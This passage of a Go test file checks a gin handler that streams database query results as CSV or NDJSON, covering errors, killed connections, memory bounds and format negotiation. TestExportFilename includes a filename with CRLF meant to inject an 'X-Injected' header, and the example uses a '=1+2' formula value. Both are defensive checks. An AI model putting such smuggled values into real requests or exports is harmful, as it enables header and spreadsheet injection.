			{"an error computing the first row", "/first", wantMsg[1]},
		}
		if d.postgres { // SQLite has no queries without columns
			cases = append(cases, struct{ name, path, msg string }{"no columns", "/nocolumns", "returns no columns"})
		}
		for _, tt := range cases {
			t.Run(tt.name, func(t *testing.T) {
				for _, q := range []string{"", "?format=ndjson"} {
					log.Reset()
					resp, body := exportBody(t, client, base+tt.path+q)
					if resp.StatusCode != http.StatusInternalServerError || string(body) != "500 Internal Server Error\n" {
						t.Errorf("GET %s: %d %q, want 500 and only the status", tt.path+q, resp.StatusCode, body)
					}
					if cd := resp.Header.Get("Content-Disposition"); cd != "" {
						t.Errorf("GET %s: Content-Disposition %q on an error", tt.path+q, cd)
					}
					if r := rep.next(t); r.Outcome != sink.Failed || r.Status != http.StatusInternalServerError {
						t.Errorf("GET %s: report %v %d, want failed 500", tt.path+q, r.Outcome, r.Status)
					}
					// The text handler quotes the error, escaping its quotes.
					quoted := strconv.Quote(tt.msg)
					if logged := log.String(); !strings.Contains(logged, "level=ERROR") || !strings.Contains(logged, quoted[1:len(quoted)-1]) {
						t.Errorf("GET %s: log %q; want an error saying %q", tt.path+q, logged, tt.msg)
					}
				}
			})
		}
		t.Run("an error after rows were sent", func(t *testing.T) {
			resp := exportGet(t, client, base+"/later")
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d, want 200", resp.StatusCode)
			}
			body, err := io.ReadAll(resp.Body)
			if !errors.Is(err, syscall.ECONNRESET) {
				t.Errorf("the body ended with %v after %d bytes, want a connection reset: a failed export must not look complete", err, len(body))
			}
			lines := strings.Split(string(body), "\n")
			if len(lines) < 2 || lines[0] != "n,x" || len(lines) > 5001 {
				t.Errorf("got %d lines starting %q; want the header and fewer than 4999 rows", len(lines), lines[:min(2, len(lines))])
			}
			for i, line := range lines[1 : len(lines)-1] { // the last may be cut short
				if n, _, _ := strings.Cut(line, ","); n != strconv.Itoa(i+1) {
					t.Fatalf("line %d is %q, want row %d", i+2, line, i+1)
				}
			}
			if r := rep.next(t); r.Outcome != sink.Failed || !strings.Contains(r.Err.Error(), wantMsg[1]) {
				t.Errorf("report %v %v, want failed with %q", r.Outcome, r.Err, wantMsg[1])
			}
		})
	})
}

// TestExportFirstRowError: with a driver that does not read ahead, a
// query can succeed and its first row fail. Nothing has been sent then:
// the client gets 500 and only the status, not a header row and a failed
// transfer; the error is logged.
func TestExportFirstRowError(t *testing.T) {
	db := sql.OpenDB(firstRowFails{})
	t.Cleanup(func() { db.Close() })
	rep := newExportReports()
	var log bytes.Buffer // written before the report, read after it
	export := handlers.Export{DB: db, Query: "SELECT id, name FROM users",
		Config: sink.Config{OnReport: rep.hook, Logger: slog.New(slog.NewTextHandler(&log, nil))}}
	client, base := serveOver(t, httpVersions[0], exportEngine(map[string]gin.HandlerFunc{"/": export.Handler()}))
	for _, q := range []string{"", "?format=ndjson"} {
		log.Reset()
		resp, body := exportBody(t, client, base+"/"+q)
		if resp.StatusCode != http.StatusInternalServerError || string(body) != "500 Internal Server Error\n" {
			t.Errorf("GET /%s: %d %q, want 500 and only the status", q, resp.StatusCode, body)
		}
		if r := rep.next(t); r.Outcome != sink.Failed || !errors.Is(r.Err, errFirstRow) || !strings.Contains(log.String(), errFirstRow.Error()) {
			t.Errorf("GET /%s: report %v (%v), log %q; want failed with %q, logged", q, r.Outcome, r.Err, log.String(), errFirstRow)
		}
	}
}

var errFirstRow = errors.New("connection reset reading the first row")

// firstRowFails is a database/sql driver (and its connector, connection,
// statement and rows) whose every query has the columns id and name and
// fails on its first row.
type firstRowFails struct{}

func (firstRowFails) Connect(context.Context) (driver.Conn, error) { return firstRowFails{}, nil }
func (firstRowFails) Driver() driver.Driver                        { return firstRowFails{} }
func (firstRowFails) Open(string) (driver.Conn, error)             { return firstRowFails{}, nil }
func (firstRowFails) Prepare(string) (driver.Stmt, error)          { return firstRowFails{}, nil }
func (firstRowFails) Begin() (driver.Tx, error)                    { return nil, errors.ErrUnsupported }
func (firstRowFails) Close() error                                 { return nil }
func (firstRowFails) NumInput() int                                { return -1 }
func (firstRowFails) Exec([]driver.Value) (driver.Result, error)   { return nil, errors.ErrUnsupported }
func (firstRowFails) Query([]driver.Value) (driver.Rows, error)    { return firstRowFails{}, nil }
func (firstRowFails) Columns() []string                            { return []string{"id", "name"} }
func (firstRowFails) Next([]driver.Value) error                    { return errFirstRow }

// endlessRows streams rows until cancelled (a set-returning function in the
// select list is evaluated lazily), each with its backend's process ID.
const endlessRows = `SELECT pg_backend_pid() AS pid, generate_series(1, 1000000000) AS n`

// TestExportConnectionKilled: when the database connection of a running
// export is killed (pg_terminate_backend), the client sees a failed
// transfer — an unexpected EOF over HTTP/1.1, a reset stream over HTTP/2 —
// never a clean end; and the pool goes on serving exports.
func TestExportConnectionKilled(t *testing.T) {
	srv := pgtest.Shared(t)
	for _, v := range httpVersions {
		t.Run(v.name, func(t *testing.T) {
			dsn := srv.NewDatabase(t)
			pool, monitor := pgtest.Open(t, dsn), pgtest.Open(t, dsn)
			rep := newExportReports()
			endless := handlers.Export{DB: pool, Query: endlessRows, Config: sink.Config{OnReport: rep.hook, Logger: quiet}}
			small := handlers.Export{DB: pool, Query: "SELECT generate_series(1, $1::int) AS n", Args: []any{3}}
			client, base := serveOver(t, v, exportEngine(map[string]gin.HandlerFunc{"/endless": endless.Handler(), "/small": small.Handler()}))

			resp := exportGet(t, client, base+"/endless")
			if resp.StatusCode != http.StatusOK || resp.ProtoMajor != map[bool]int{false: 1, true: 2}[v.http2] {
				t.Fatalf("%s %d, want 200 over %s", resp.Proto, resp.StatusCode, v.name)
			}
			br := bufio.NewReader(resp.Body)
			header, _ := br.ReadString('\n')
			first, err := br.ReadString('\n')
			if header != "pid,n\n" || err != nil {
				t.Fatalf("first lines %q %q, %v", header, first, err)
			}
			pidText, n, _ := strings.Cut(strings.TrimSpace(first), ",")
			pid, err := strconv.Atoi(pidText)
			if err != nil || n != "1" {
				t.Fatalf("first row %q, want the backend's pid and 1", first)
			}
			var terminated bool
			if err := monitor.QueryRowContext(t.Context(), "SELECT pg_terminate_backend($1)", pid).Scan(&terminated); err != nil || !terminated {
				t.Fatalf("pg_terminate_backend(%d) = %v, %v", pid, terminated, err)
			}

			rest, err := io.Copy(io.Discard, br)
			switch {
			case err == nil:
				t.Fatalf("the body ended cleanly after %d more bytes: a failed export looks complete", rest)
			case !v.http2 && !errors.Is(err, syscall.ECONNRESET):
				t.Errorf("reading the rest: %v, want a connection reset", err)
			case v.http2 && !strings.Contains(err.Error(), "stream error"):
				t.Errorf("reading the rest: %v, want a stream error (RST_STREAM)", err)
			}
			if r := rep.next(t); r.Outcome != sink.Failed {
				t.Errorf("report %v %v, want failed", r.Outcome, r.Err)
			}

			// The pool drops the dead connection and serves the next
			// exports in full.
			for range 3 {
				if _, body := exportBody(t, client, base+"/small"); string(body) != "n\n1\n2\n3\n" {
					t.Fatalf("after the kill, an export gives %q", body)
				}
			}
		})
	}
}

// TestExportFilename: the download's name comes from Filename, with
// ".ndjson" in place of ".csv" for NDJSON, and can never break the header.
func TestExportFilename(t *testing.T) {
	db := exportSQLite(t)
	tests := []struct{ filename, csv, ndjson string }{
		{"", "export.csv", "export.ndjson"},
		{"users.csv", "users.csv", "users.ndjson"},
		{"USERS.CSV", "USERS.CSV", "USERS.ndjson"},
		{"report", "report", "report.ndjson"},
		{"data.v2", "data.v2", "data.v2.ndjson"},
		{"Zoë's report.csv", "Zoë's report.csv", "Zoë's report.ndjson"},
		{"evil\"\r\nX-Injected: 1.csv", "evil\"__X-Injected: 1.csv", "evil\"__X-Injected: 1.ndjson"},
	}
	routes := map[string]gin.HandlerFunc{}
	for i, tt := range tests {
		routes["/"+strconv.Itoa(i)] = handlers.Export{DB: db, Query: "SELECT 1 AS n", Filename: tt.filename}.Handler()
	}
	client, base := serveOver(t, httpVersions[0], exportEngine(routes))
	for i, tt := range tests {
		t.Run(strconv.Quote(tt.filename), func(t *testing.T) {
			for q, want := range map[string]string{"": tt.csv, "?format=ndjson": tt.ndjson} {
				resp, _ := exportBody(t, client, base+"/"+strconv.Itoa(i)+q)
				cd := resp.Header.Get("Content-Disposition")
				disposition, params, err := mime.ParseMediaType(cd)
				if err != nil || disposition != "attachment" || params["filename"] != want {
					t.Errorf("Content-Disposition %q: %q, %q, %v; want an attachment named %q", cd, disposition, params["filename"], err, want)
				}
				if got := resp.Header.Get("X-Injected"); got != "" {
					t.Errorf("a header was injected: X-Injected: %s", got)
				}
			}
		})
	}
}

// raceEnabled reports whether the test binary was built with the race
// detector, which makes the long tests too slow to run in full.
func raceEnabled() bool {
	info, ok := debug.ReadBuildInfo()
	if !ok {
		return false
	}
	for _, s := range info.Settings {
		if s.Key == "-race" {
			return s.Value == "true"
		}
	}
	return false
}

// heapSample is the server process's heap at some point of a stream.
type heapSample struct {
	rows  int64  // rows the client had received
	inUse uint64 // bytes in in-use heap spans (runtime.MemStats.HeapInuse)
	live  uint64 // bytes live at the last GC
}

// sampleHeap samples the heap every few milliseconds, with the progress
// rows reports, until stop is closed, and returns the samples.
func sampleHeap(rows *atomic.Int64, stop <-chan struct{}) []heapSample {
	ms := []metrics.Sample{
		{Name: "/memory/classes/heap/objects:bytes"},
		{Name: "/memory/classes/heap/unused:bytes"},
		{Name: "/gc/heap/live:bytes"},
	}
	var samples []heapSample
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for {
		metrics.Read(ms)
		samples = append(samples, heapSample{
			rows:  rows.Load(),
			inUse: ms[0].Value.Uint64() + ms[1].Value.Uint64(),
			live:  ms[2].Value.Uint64(),
		})
		select {
		case <-stop:
			return samples
		case <-tick.C:
		}
	}
}

// TestExportBoundedMemory: an export from PostgreSQL keeps the server's
// heap under a fixed bound far below the size of the export, and flat: it
// does not grow with the rows sent. The export is 250,000 rows of about
// 1,140 bytes (50,000 under the race detector, which makes it slow), so
// that even in CI's -race run the body is over twice the bound: an export
// that buffered its body, or fetched every row before writing, could not
// stay under it. Two such exports run beside it as controls, and must
// exceed the bound.
func TestExportBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: skipping the export of tens of megabytes")
	}
	const (
		// heapBound bounds the heap in use during the export. Buffering
		// the body would need more than its size (about 1,140 bytes a
		// row: 57 MB for 50,000 rows) and, as records, more than that.
		heapBound = 24 << 20
		// growthBound bounds how much more heap is live late in the
		// export than early on.
		growthBound = 4 << 20
		// controlRows is the size of the controls' exports, in any build:
		// enough for their body (57 MB) to be over twice the bound.
		controlRows = 50_000
		noteLen     = 1100 // bytes in each row's note
		query       = `SELECT n AS id, 'user ' || n AS name, 'user' || n || '@example.com' AS email,
			repeat('x', $2::int) AS note FROM generate_series(1, $1::int) AS n`
	)
	n := 250_000
	if raceEnabled() {
		n = controlRows
	}
	db := pgtest.DB(t)

	t.Run("Export", func(t *testing.T) {
		export := handlers.Export{DB: db, Query: query, Args: []any{n, noteLen}}
		m := measureExport(t, exportEngine(map[string]gin.HandlerFunc{"/users": export.Handler()}), n, noteLen)
		t.Logf("%d rows, %d bytes, %d heap samples: peak heap in use %.1f MiB (bound %d MiB); live heap %.1f MiB early, %.1f MiB late",
			n, m.bytes, m.samples, mib(m.peak), heapBound>>20, mib(m.early), mib(m.late))
		if m.bytes < 2*heapBound {
			t.Fatalf("the export is %d bytes: less than twice the bound of %d MiB, so buffering it might not exceed the bound", m.bytes, heapBound>>20)
		}
		if m.peak > heapBound {
			t.Errorf("the heap in use reached %.1f MiB exporting %d rows (%d bytes), more than %d MiB", mib(m.peak), n, m.bytes, heapBound>>20)
		}
		if m.early == 0 || m.late == 0 {
			t.Fatalf("too few heap samples (%d) to compare the early and late export", m.samples)
		}
		if m.late > m.early+growthBound {
			t.Errorf("the live heap grew from %.1f MiB to %.1f MiB during the export: memory grows with the rows", mib(m.early), mib(m.late))
		}
	})

	// The controls send the same bytes, having held them all: the bound
	// must catch them, or it proves nothing about Export.
	args := []any{controlRows, noteLen}
	buffered := gin.New()
	buffered.GET("/users", bufferBody, handlers.Export{DB: db, Query: query, Args: args}.Handler())
	fetchAll := gin.New()
	fetchAll.GET("/users", exportFetchAll(db, query, args...))
	for _, control := range []struct {
		name   string
		engine *gin.Engine
	}{
		{"Export behind a middleware that buffers the body", buffered},
		{"every row fetched before the first is written", fetchAll},
	} {
		t.Run("control: "+control.name, func(t *testing.T) {
			m := measureExport(t, control.engine, controlRows, noteLen)
			t.Logf("%d rows, %d bytes: peak heap in use %.1f MiB (bound %d MiB)", controlRows, m.bytes, mib(m.peak), heapBound>>20)
			if m.peak <= heapBound {
				t.Errorf("peak heap in use %.1f MiB, within the bound of %d MiB: the bound does not catch an export of %d bytes that holds them all",
					mib(m.peak), heapBound>>20, m.bytes)
			}
		})
	}
}

// mib returns n bytes in MiB.
func mib[N uint64 | int64](n N) float64 { return float64(n) / (1 << 20) }

// exportHeap is what measureExport saw of an export.
type exportHeap struct {
	bytes       int64  // body bytes received
	samples     int    // heap samples taken
	peak        uint64 // the most heap in use
	early, late uint64 // the most live heap in the second and in the last quarter of the rows
}

// measureExport serves h over loopback HTTP/1.1, downloads the CSV export
// of n rows (id, name, email, note) it answers GET /users with, checking
// that the rows come in order of id and that each note has noteLen bytes,
// and samples the heap of the process meanwhile.
func measureExport(t *testing.T, h http.Handler, n, noteLen int) exportHeap {
	t.Helper()
	client, base := serveOver(t, httpVersions[0], h)
	runtime.GC()
	var received atomic.Int64
	stop := make(chan struct{})
	samplesc := make(chan []heapSample)
	go func() { samplesc <- sampleHeap(&received, stop) }()

	resp := exportGet(t, client, base+"/users")
	body := &countingReader{r: resp.Body}
	r := csv.NewReader(body)
	r.ReuseRecord = true
	var readErr error
	for i := 0; ; i++ {
		rec, err := r.Read()
		if err != nil {
			if err != io.EOF {
				readErr = err
			}
			break
		}
		if len(rec) != 4 || i > 0 && (rec[0] != strconv.Itoa(i) || len(rec[3]) != noteLen) {
			readErr = fmt.Errorf("record %d is %.80q", i, rec)
			break
		}
		received.Store(int64(i))
	}
	close(stop)
	samples := <-samplesc
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	if readErr != nil {
		t.Fatal(readErr)
	}
	if got := received.Load(); got != int64(n) {
		t.Fatalf("received %d rows, want %d", got, n)
	}
	m := exportHeap{bytes: body.n, samples: len(samples)}
	for _, s := range samples {
		m.peak = max(m.peak, s.inUse)
		switch {
		case s.rows >= int64(n)/4 && s.rows < int64(n)/2:
			m.early = max(m.early, s.live)
		case s.rows >= int64(n)*3/4:
			m.late = max(m.late, s.live)
		}
	}
	return m
}

// bufferBody is a middleware that holds the whole body of the response
// and sends it once the handler has returned, as one that computes a
// Content-Length or an ETag does. It keeps a copy of each write, no more:
// the least memory a buffered body takes.
func bufferBody(c *gin.Context) {
	w := &bufferedBody{ResponseWriter: c.Writer}
	c.Writer = w
	c.Next()
	c.Writer = w.ResponseWriter
	for _, p := range w.writes {
		if _, err := w.ResponseWriter.Write(p); err != nil {
			return
		}
	}
}

// bufferedBody is bufferBody's writer: it keeps what is written, and
// ignores flushes.
type bufferedBody struct {
	gin.ResponseWriter
	writes [][]byte
}

func (w *bufferedBody) Write(p []byte) (int, error) {
	w.writes = append(w.writes, bytes.Clone(p))
	return len(p), nil
}

func (w *bufferedBody) WriteString(s string) (int, error) { return w.Write([]byte(s)) }

func (w *bufferedBody) Flush() {}

// exportFetchAll returns a handler that answers with the CSV of query's
// rows, of text columns id, name, email and note, which it writes only
// once it has read them all.
func exportFetchAll(db *sql.DB, query string, args ...any) gin.HandlerFunc {
	return func(c *gin.Context) {
		rows, err := db.QueryContext(c.Request.Context(), query, args...)
		if err != nil {
			_ = c.AbortWithError(http.StatusInternalServerError, err)
			return
		}
		defer rows.Close()
		all := [][]string{{"id", "name", "email", "note"}}
		for rows.Next() {
			row := make([]string, 4)
			if err := rows.Scan(&row[0], &row[1], &row[2], &row[3]); err != nil {
				_ = c.AbortWithError(http.StatusInternalServerError, err)
				return
			}
			all = append(all, row)
		}
		if err := rows.Err(); err != nil {
			_ = c.AbortWithError(http.StatusInternalServerError, err)
			return
		}
		c.Header("Content-Type", "text/csv; charset=utf-8")
		c.Status(http.StatusOK)
		_ = csv.NewWriter(c.Writer).WriteAll(all)
	}
}

// countingReader counts the bytes read through it.
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

// ExampleExport exports a table as CSV, and as NDJSON when asked.
func ExampleExport() {
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		panic(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1) // each connection would have its own in-memory database
	_, err = db.Exec(`CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT NOT NULL, email TEXT);
		INSERT INTO users VALUES (1, 'Smith, John', 'john@example.com'), (2, '=1+2', NULL)`)
	if err != nil {
		panic(err)
	}

	users := handlers.Export{
		DB:       db,
		Query:    "SELECT id, name, email FROM users ORDER BY id",
		Filename: "users.csv",
	}
	r := gin.New()
	r.GET("/export/users.csv", users.Handler())
	srv := httptest.NewServer(r)
	defer srv.Close()

	for _, query := range []string{"", "?format=ndjson"} {
		resp, err := srv.Client().Get(srv.URL + "/export/users.csv" + query)
		if err != nil {
			panic(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		fmt.Printf("%s\n%s", resp.Header.Get("Content-Disposition"), body)
	}
	// Output:
	// attachment; filename="users.csv"
	// id,name,email
	// 1,"Smith, John",john@example.com
	// 2,'=1+2,
	// attachment; filename="users.ndjson"
	// {"id":1,"name":"Smith, John","email":"john@example.com"}
	// {"id":2,"name":"=1+2","email":null}
}

// FuzzExportFormat feeds the export raw query strings and Accept headers.
// Whatever they hold, the answer is never a server error: a format
// parameter (as net/url reads the query) of csv or ndjson, in any case,
// gives that format; any other gives 400 with a JSON error, as does a query
// string net/url cannot parse; without the parameter the answer is CSV or
// NDJSON — CSV if there is no Accept header, NDJSON only if the header
// names an application/ type. Either way the body is the one row in that
// format. The requests go straight to the engine, not over the network.
func FuzzExportFormat(f *testing.F) {
	for _, seed := range []struct{ query, accept string }{
		{"", ""}, {"format=csv", ""}, {"format=ndjson", ""}, {"format=NDJSON", "text/csv"},
		{"format=xml", ""}, {"format=", ""}, {"format", ""}, {"format=ndjson;x", ""}, {"format=%zz", ""},
		{"", "application/json"}, {"", "application/x-ndjson;q=0.5, text/csv;q=0.4"},
		{"", "*/*"}, {"", "application/*"}, {"", "text/*;q=1, application/json;q=1.0"},
		{"", "application/json;q=NaN"}, {"", "application/json;q=-1"}, {"", ",,;;q=,/"},
		{"", "APPLICATION/JSON; Q=0.9"}, {"x=1&format=csv&format=ndjson", "application/json"},
	} {
		f.Add(seed.query, seed.accept)
	}
	db, err := sql.Open("sqlite", "file:"+filepath.Join(f.TempDir(), "fuzz.db"))
	if err != nil {
		f.Fatal(err)
	}
	defer db.Close()
	export := handlers.Export{DB: db, Query: "SELECT 1 AS n"}
	engine := gin.New()
	engine.GET("/t", export.Handler())

	const (
		csvType, csvBody       = "text/csv; charset=utf-8", "n\n1\n"
		ndjsonType, ndjsonBody = "application/x-ndjson", `{"n":1}` + "\n"
	)
	f.Fuzz(func(t *testing.T, query, accept string) {
		req := httptest.NewRequest(http.MethodGet, "/t", nil)
		req.URL.RawQuery = query
		if accept != "" {
			req.Header.Set("Accept", accept)
		}
		rec := httptest.NewRecorder()
		engine.ServeHTTP(rec, req)
		if rec.Code >= 500 {
			t.Fatalf("query %q, Accept %q: status %d: %s", query, accept, rec.Code, rec.Body)
		}
		values, err := url.ParseQuery(query)
		format, present := values["format"]
		var want string // the Content-Type, or "" for a 400, or "*" for either format
		switch {
		case err != nil:
		case present && strings.EqualFold(format[0], "csv"):
			want = csvType
		case present && strings.EqualFold(format[0], "ndjson"):
			want = ndjsonType
		case present:
		case accept == "":
			want = csvType
		default:
			want = "*"
		}
		got := rec.Header().Get("Content-Type")
		switch {
		case want == "":
			if rec.Code != http.StatusBadRequest || !json.Valid(rec.Body.Bytes()) {
				t.Fatalf("query %q: %d %q, want 400 and a JSON error", query, rec.Code, rec.Body)
			}
			return
		case rec.Code != http.StatusOK:
			t.Fatalf("query %q, Accept %q: status %d (%q), want 200", query, accept, rec.Code, rec.Body)
		case want != "*" && got != want:
			t.Fatalf("query %q, Accept %q: %s, want %s", query, accept, got, want)
		case got == ndjsonType && want == "*" && !strings.Contains(strings.ToLower(accept), "application/"):
			t.Fatalf("Accept %q names no application/ type, yet the answer is NDJSON", accept)
		}
		if wantBody := map[string]string{csvType: csvBody, ndjsonType: ndjsonBody}[got]; rec.Body.String() != wantBody {
			t.Fatalf("query %q, Accept %q: %s body %q, want %q", query, accept, got, rec.Body, wantBody)
		}
	})
}
